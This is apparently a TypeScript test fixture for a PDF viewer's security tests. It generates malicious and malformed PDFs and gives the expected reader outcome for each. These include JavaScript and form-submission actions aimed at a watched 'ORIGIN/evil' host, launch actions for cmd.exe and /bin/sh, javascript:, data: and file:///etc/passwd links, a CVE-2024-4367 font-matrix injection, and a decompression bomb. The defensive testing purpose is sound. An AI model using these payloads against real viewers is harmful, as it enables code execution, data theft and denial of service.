/** Files that mean ill, or are ill, and servers that fail; each named for what is awkward about it. */
import { deflateSync } from 'node:zlib';
import type { ServedFile } from '../e2e/pdf-server.ts';
import { bomb, buildPdf } from './build-pdf.ts';

export interface BadCase {
  readonly name: string;
  readonly file: ServedFile;
  /** What the reader must come to: pages that do nothing, a message with these words, or either of them. */
  readonly comesTo: 'open' | RegExp | 'either';
}

const MARK = 'window.pwned = 1; globalThis.pwned = 1;';
const js = `<< /S /JavaScript /JS (${MARK} app.alert\\('x'\\); this.submitForm\\('ORIGIN/evil'\\);) >>`;
const annotation = (action: string): string =>
  `/Annots [ << /Type /Annot /Subtype /Link /Rect [50 650 400 750] /Border [0 0 0] /A ${action} >> ]`;
const bare = buildPdf();
const withForm = (fields: string): string => `/AcroForm << /Fields [10 0 R] ${fields} >>`;

const ACTIONS: Readonly<Record<string, string>> = {
  'a script on opening': `/OpenAction ${js}`,
  'a launch on opening': '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  'an address on opening': '/OpenAction << /S /URI /URI (ORIGIN/evil) >>',
  'printing on opening': '/OpenAction << /S /Named /N /Print >>',
  'a remote document on opening': '/OpenAction << /S /GoToR /F (ORIGIN/evil.pdf) /D [0 /Fit] >>',
  'a form sent on opening': '/OpenAction << /S /SubmitForm /F (ORIGIN/evil) >>',
  'data brought in on opening': '/OpenAction << /S /ImportData /F (ORIGIN/evil) >>',
  'scripts by name': `/Names << /JavaScript << /Names [(a) ${js}] >> >>`,
  'scripts before closing and printing': `/AA << /WC ${js} /WS ${js} /DS ${js} /WP ${js} /DP ${js} >>`,
  'an XFA form with a script': `/AcroForm << /XFA [(template) 10 0 R] >> /NeedsRendering true`,
  'an attached program':
    '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>] >> >>',
};
const LINKS: Readonly<Record<string, string>> = {
  'a link with a script': js,
  'a link to javascript:': `<< /S /URI /URI (javascript:${MARK}) >>`,
  'a link to data:': '<< /S /URI /URI (data:text/html,<script>opener.pwned=1</script>) >>',
  'a link to a file': '<< /S /URI /URI (file:///etc/passwd) >>',
  'a link that launches': '<< /S /Launch /F (/bin/sh) >>',
  'a link to a page of the browser': '<< /S /URI /URI (chrome://settings) >>',
};
const BODIES: Readonly<Record<string, Buffer>> = {
  'a page that scripts when it opens': buildPdf({ page: `/AA << /O ${js} /C ${js} >>` }),
  'a field that calculates by script': buildPdf({
    catalogue: withForm('/NeedAppearances true'),
    page: '/Annots [10 0 R]',
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [50 600 200 640] /AA << /C ${js} /F ${js} /K ${js} /Fo ${js} >> >>`,
    ],
  }),
  // CVE-2024-4367: a font's matrix was built into code.
  'a font matrix that is code': buildPdf({
    content: 'BT /F1 24 Tf 72 700 Td (abc) Tj /F2 24 Tf (abc) Tj ET',
    page: `/Resources << /Font << /F1 5 0 R /F2 << /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (0\\); ${MARK} //)] /FontDescriptor << /Type /FontDescriptor /FontName /X /FontMatrix [(${MARK})] /FontFile 10 0 R >> >> >> >>`,
    objects: [{ entries: '/Length1 10', data: '%!PS-AdobeFont-1.0\n/FontMatrix [0.001 0 0 0.001 0 0] def' }],
  }),
  'a function of PostScript that is code': buildPdf({
    content: '/CS0 cs 0.5 scn 0 0 100 100 re f',
    page: '/Resources << /ColorSpace << /CS0 [/Separation /X /DeviceRGB 10 0 R] >> >>',
    objects: [{ entries: '/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]', data: `{ ${MARK} dup dup }` }],
  }),
  'a tree of pages that goes round': buildPdf({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
  'a count of pages without pages': buildPdf({ pages: '<< /Type /Pages /Kids [] /Count 100 >>' }),
  'no page': buildPdf({ pages: '<< /Type /Pages /Kids [] /Count 0 >>' }),
  'a count below nothing': buildPdf({ pages: '<< /Type /Pages /Kids [3 0 R] /Count -5 >>' }),
  'a count beyond counting': buildPdf({
    pages: '<< /Type /Pages /Kids [3 0 R] /Count 99999999999999999999 >>',
  }),
  'a page of no size': buildPdf({ page: '/MediaBox [0 0 0 0]' }),
  'a page as large as a country': buildPdf({ page: '/MediaBox [0 0 99999999 99999999]' }),
  'a page with a size of words': buildPdf({ page: '/MediaBox [(a) (b) /c null]' }),
  'an image of a trillion pixels': buildPdf({
    content: 'q 100 0 0 100 0 0 cm /X0 Do Q',
    objects: [
      {
        entries:
          '/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
        data: deflateSync(Buffer.alloc(1000)),
      },
    ],
  }),
  'a form that draws itself': buildPdf({
    content: '/X0 Do',
    objects: [
      {
        entries:
          '/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X0 10 0 R >> >>',
        data: '/X0 Do /X0 Do',
      },
    ],
  }),
  'states saved a hundred thousand times': buildPdf({ content: 'q '.repeat(100_000) }),
  'brackets nested ten thousand deep': buildPdf({ content: `${'['.repeat(10_000)} TJ` }),
  'an outline that goes round': buildPdf({
    catalogue: '/Outlines 10 0 R',
    objects: [
      '<< /Type /Outlines /First 11 0 R /Last 11 0 R >>',
      '<< /Title (Round) /Parent 10 0 R /Next 11 0 R /First 11 0 R >>',
    ],
  }),
  'names that go round': buildPdf({
    catalogue: '/Names << /Dests 10 0 R >> /OpenAction (x)',
    objects: ['<< /Kids [10 0 R] /Limits [(a) (z)] >>'],
  }),
  'a reference to itself': buildPdf({ objects: ['10 0 R'], page: '/Rotate 10 0 R' }),
  'a length that is wrong': Buffer.from(
    bare.toString('latin1').replace(/\/Length \d+/, '/Length 999999'),
    'latin1',
  ),
  'a table of objects that points nowhere': Buffer.from(
    bare.toString('latin1').replace(/startxref\n\d+/, 'startxref\n999999999'),
    'latin1',
  ),
  'no table of objects': Buffer.from(bare.toString('latin1').replace(/xref[\s\S]*$/, ''), 'latin1'),
  'a table of objects that goes round': buildPdf({ trailer: '/Prev 9' }),
  'zero bytes within': Buffer.concat([bare.subarray(0, 200), Buffer.alloc(200), bare.subarray(200)]),
  'other bytes before the header': Buffer.concat([Buffer.from('junk\n'.repeat(50)), bare]),
  'a cipher that nobody knows': buildPdf({
    trailer: '/Encrypt << /Filter /Unknown /V 9 /R 9 >> /ID [<00> <00>]',
  }),
};

const swelling = (): Buffer => {
  const packed = bomb(200_000_000);
  const pdf = buildPdf({ objects: [packed] });
  return Buffer.from(pdf.toString('latin1').replace('/Contents 4 0 R', '/Contents 10 0 R'), 'latin1');
};
const manyPages = (count: number): Buffer =>
  buildPdf({ pages: `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} >>` });

const damaged = /damaged|empty/i;
const notPdf = /not a PDF/i;
const html = '<!doctype html><title>Log in</title><form>Log in</form>';

/** All cases; `ORIGIN` in a file stands for the server that is watched for requests. */
export function badCases(): BadCase[] {
  const open = (name: string, body: Buffer, comesTo: BadCase['comesTo'] = 'either'): BadCase => ({
    name,
    file: { body },
    comesTo,
  });
  return [
    ...Object.entries(ACTIONS).map(([name, catalogue]) =>
      open(name, buildPdf({ catalogue, objects: [{ entries: '', data: `<xdp>${MARK}</xdp>` }] }), 'open'),
    ),
    ...Object.entries(LINKS).map(([name, action]) =>
      open(name, buildPdf({ page: annotation(action) }), 'open'),
    ),
    ...Object.entries(BODIES).map(([name, body]) => open(name, body)),
    ...[0.05, 0.2, 0.4, 0.6, 0.8, 0.95].map((share) =>
      open(`cut off after ${share * 100} %`, bare.subarray(0, Math.ceil(bare.length * share))),
    ),
    open('a content that swells to 200 MB', swelling()),
    open('ten thousand pages', manyPages(10_000), 'open'),
    open('only a header', Buffer.from('%PDF-1.7\n'), damaged),
    { name: 'no byte', file: { body: '' }, comesTo: damaged },
    { name: 'a page to log in', file: { body: html, type: 'text/html' }, comesTo: notPdf },
    { name: 'a page that claims to be a PDF', file: { body: html }, comesTo: notPdf },
    {
      name: 'a picture',
      file: { body: Buffer.from('89504e470d0a1a0a', 'hex'), type: 'image/png' },
      comesTo: notPdf,
    },
    { name: 'a PDF that claims to be text', file: { body: bare, type: 'text/plain' }, comesTo: 'open' },
    { name: '404', file: { body: html, status: 404 }, comesTo: /no document.*404/i },
    { name: '410', file: { body: html, status: 410 }, comesTo: /no document.*410/i },
    { name: '401', file: { body: html, status: 401 }, comesTo: /log in.*|401/i },
    { name: '403', file: { body: html, status: 403 }, comesTo: /403/ },
    { name: '500', file: { body: html, status: 500 }, comesTo: /server failed.*500/i },
    { name: '503', file: { body: html, status: 503 }, comesTo: /server failed.*503/i },
    { name: 'a connection that breaks', file: { body: bare, breaksAfter: 300 }, comesTo: /broke|damaged/i },
    {
      name: 'a connection that breaks at once',
      file: { body: bare, breaksAfter: 10 },
      comesTo: /broke|damaged/i,
    },
  ];
}
